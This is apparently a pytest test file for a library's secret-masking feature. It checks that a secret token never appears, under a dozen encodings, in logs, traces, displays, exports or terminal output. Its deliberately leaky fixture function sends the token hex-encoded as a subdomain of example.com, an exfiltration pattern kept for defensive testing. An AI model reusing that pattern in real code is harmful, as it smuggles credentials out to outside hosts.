"""Secrets: hidden in every spelling and at every place where a notebook, a log or an export could keep them."""

from __future__ import annotations

import base64
import html
import json
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spinlab import App, Function
from spinlab.export import describe, project
from spinlab.host.runtime_config import KeyValueBackend, LlmCompute, RuntimeConfig
from spinlab.manifest import dump
from spinlab.secrets import HIDDEN, Secrets, mask
from spinlab.variables import listed
from spinlab.widgets import tables
from spinlab.widgets.response import response

SECRET = "pa$$ \"w'ör&d\\22"
LEAKY = """
import sys
from spin_sdk import variables, http

def handle(request):
    token = variables.get("token")
    print("out", token)
    print("err", token, file=sys.stderr)
    print({"token": token})
    if request.text == "raise":
        raise ValueError(f"wrong: {token}")
    if request.text == "reach":
        try:
            http.send(http.Request("GET", "https://" + token.encode().hex() + ".example.com/" , {}, b""))
        except Exception as error:
            print(error)
    return 200, token, {"x-token": token.encode("ascii", "replace").decode()}
"""


@pytest.fixture
def app(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[App]:
    monkeypatch.chdir(tmp_path)
    made = App("tests")
    made.set_variable("token", SECRET, secret=True)
    made.add(Function("leaky", LEAKY, routes=("/leaky",), variables={"token": "{{ token }}"}))
    yield made
    made.close()


def is_hidden(text: object) -> bool:
    """Whether no spelling of the secret is in a text."""
    found = str(text)
    spelled = (SECRET, repr(SECRET)[1:-1], json.dumps(SECRET)[1:-1], html.escape(SECRET), urllib.parse.quote(SECRET))
    return not any(one in found for one in spelled)


# ---- the spellings


@pytest.mark.parametrize(
    "spell",
    [
        str,
        repr,
        json.dumps,
        lambda value: json.dumps(value, ensure_ascii=False),
        html.escape,
        lambda value: html.escape(html.escape(value)),
        urllib.parse.quote,
        urllib.parse.quote_plus,
        lambda value: urllib.parse.quote(value, safe=""),
        lambda value: repr(value.encode()),
        lambda value: base64.b64encode(value.encode()).decode(),
        lambda value: base64.urlsafe_b64encode(b"user:" + value.encode() + b"!").decode(),
    ],
)
def test_a_secret_is_hidden_however_it_is_spelled(spell) -> None:  # type: ignore[no-untyped-def]
    secrets = Secrets()
    secrets.learn("token", SECRET)
    assert HIDDEN in secrets.mask(f"before {spell(SECRET)} after")
    assert is_hidden(secrets.mask(f"before {spell(SECRET)} after"))


@given(st.text(min_size=4, max_size=30), st.text(max_size=20), st.text(max_size=20))
def test_any_value_is_hidden(value: str, before: str, after: str) -> None:
    secrets = Secrets()
    secrets.learn("token", value)
    masked = secrets.mask(before + value + after)
    assert value not in masked or value in HIDDEN * 12 or value in before + HIDDEN + after


def test_each_line_of_a_key_is_hidden() -> None:
    secrets = Secrets()
    secrets.learn("key", "-----BEGIN KEY-----\nMIIEvQIBADANBgkq\nhkiG9w0BAQEFAASC\n-----END KEY-----\n")
    assert secrets.mask("a MIIEvQIBADANBgkq b") == f"a {HIDDEN} b"


def test_a_value_that_is_too_short_is_left() -> None:
    secrets = Secrets()
    secrets.learn("pin", "123")
    assert secrets.mask("12345") == "12345"


def test_an_earlier_value_stays_hidden_until_it_is_made_public(app: App) -> None:
    app.set_variable("token", "another-value")
    assert app.services.variables.mask(SECRET) == HIDDEN
    assert app.services.variables.mask("another-value") == HIDDEN
    app.set_variable("token", secret=False)
    assert app.services.variables.mask("another-value") == "another-value"


def test_what_an_app_hides_is_seen_again_without_the_app() -> None:
    made = App("tests")
    made.set_variable("token", "only-while-it-lives", secret=True)
    assert mask("only-while-it-lives") == HIDDEN
    made.close()
    del made


def test_a_value_from_the_environment_is_hidden_once_it_is_read(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPIN_VARIABLE_OTHER", "from-the-environment")
    app.variables["other"] = {"required": True, "secret": True}
    assert app.services.variables.get("other") == "from-the-environment"
    assert app.services.variables.mask("x from-the-environment") == f"x {HIDDEN}"
    assert "from-the-environment" in app.services.variables.secret_values()


def test_passwords_of_the_runtime_configuration_are_hidden() -> None:
    config = RuntimeConfig(
        llm_compute=LlmCompute("remote_http", "http://x", "model-token"),
        key_value_stores={"default": KeyValueBackend("redis", url="redis://me:redis-password@localhost")},
    )
    assert "model-token" not in repr(config)
    assert "redis-password" not in repr(config)
    made = App("tests", runtime=config)
    text = made.services.variables.mask("model-token redis-password")
    made.close()
    assert text == f"{HIDDEN} {HIDDEN}"


# ---- the places


def test_no_log_trace_error_or_repr_has_a_secret(app: App) -> None:
    for body in ("", "raise", "reach"):
        answer = app.post("/leaky", body)
        assert answer.logs
        assert is_hidden(answer.logs)
        assert is_hidden(answer.calls)
        assert is_hidden(answer.denied)
        assert is_hidden(repr(answer))
        assert is_hidden((answer.error, getattr(answer.error, "details", "")))
        assert all(is_hidden(value) for value in response(answer)._repr_mimebundle_().values())
    app.get("/leaky?" + urllib.parse.quote(SECRET))
    assert is_hidden(app.logs())
    assert is_hidden(app.traces())
    assert is_hidden(vars(app))


def test_a_function_gives_its_client_what_it_chose_to(app: App) -> None:
    answer = app.get("/leaky")
    assert answer.text == SECRET  # the bytes are the function's; only what shows them hides them
    assert HIDDEN in response(answer)._repr_mimebundle_()["text/plain"]


def test_no_display_has_a_secret(app: App) -> None:
    shown = [app["leaky"], app, tables.app(app), tables.log(app.logs(), {}), app.traces()]
    for one in shown:
        bundle = one._repr_mimebundle_()
        assert all(is_hidden(json.dumps(value, ensure_ascii=False)) for value in bundle.values())
        assert is_hidden(repr(one))
    assert is_hidden(listed(app))


def test_no_export_has_a_secret(app: App, tmp_path: Path) -> None:
    text = dump(describe(app))
    assert "token = { required = true, secret = true }" in text
    assert is_hidden(text)
    for form in ("shared", "standalone", "official"):
        project(app, tmp_path / form, components=form)
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


def test_what_a_terminal_is_told_at_once_has_no_secret() -> None:
    told: list[str] = []
    made = App("tests", tell=lambda _component, _stream, text: told.append(text))
    made.set_variable("token", SECRET, secret=True)
    made.add(Function("leaky", LEAKY, routes=("/leaky",), variables={"token": "{{ token }}"}))
    made.get("/leaky")
    made.close()
    assert any(HIDDEN in text for text in told)
    assert is_hidden(told)


def test_a_secret_in_a_grant_is_not_told_when_it_is_refused(app: App) -> None:
    hosts = ("https://{{ token }}.example.com",)
    app.add(
        Function("reach", LEAKY, routes=("/reach",), variables={"token": "{{ token }}"}, allowed_outbound_hosts=hosts)
    )
    answer = app.post("/reach", "reach")
    assert is_hidden((answer.logs, answer.calls, answer.denied, answer.error))


def test_an_app_without_secrets_pays_nothing() -> None:
    made = App("tests")
    secrets = made.services.variables.secrets
    line = object()
    assert secrets.hidden(line) is line
    assert secrets.values() == frozenset()
    made.close()
